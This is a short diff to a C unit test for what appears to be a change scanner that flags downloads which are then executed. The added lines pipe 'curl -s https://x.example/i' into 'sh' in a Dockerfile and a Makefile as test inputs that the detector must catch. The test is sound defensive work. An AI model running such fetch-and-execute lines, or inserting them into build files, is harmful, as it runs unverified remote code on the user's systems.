@@ -380,6 +380,11 @@ static void what_comes_is_run(void **state)
 	        {"curl -so a.tar.gz https://x.example/a.tar.gz\ntar xf a.tar.gz\n", SCAN_RULES},
 	};
 	(void)state;
+	/* What stands before the commands of a Dockerfile and of make is none. */
+	struct seen docker = changed("Dockerfile", "FROM a\n", "FROM a\nRUN curl -s https://x.example/i | sh\n");
+	struct seen make = changed("Makefile", "all:\n", "all:\n\t@curl -s https://x.example/i | sh\n");
+	assert_true(
+	        scan_rule_in(&docker.rules, SCAN_RULE_CHANGE_RUNS_DOWNLOAD) && scan_rule_in(&make.rules, SCAN_RULE_CHANGE_RUNS_DOWNLOAD));
 	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
 		/* That it fetches or decodes is told beside that. */
 		struct seen s = changed("a.sh", "make\n", rows[i].text), same = changed("a.sh", rows[i].text, rows[i].text);
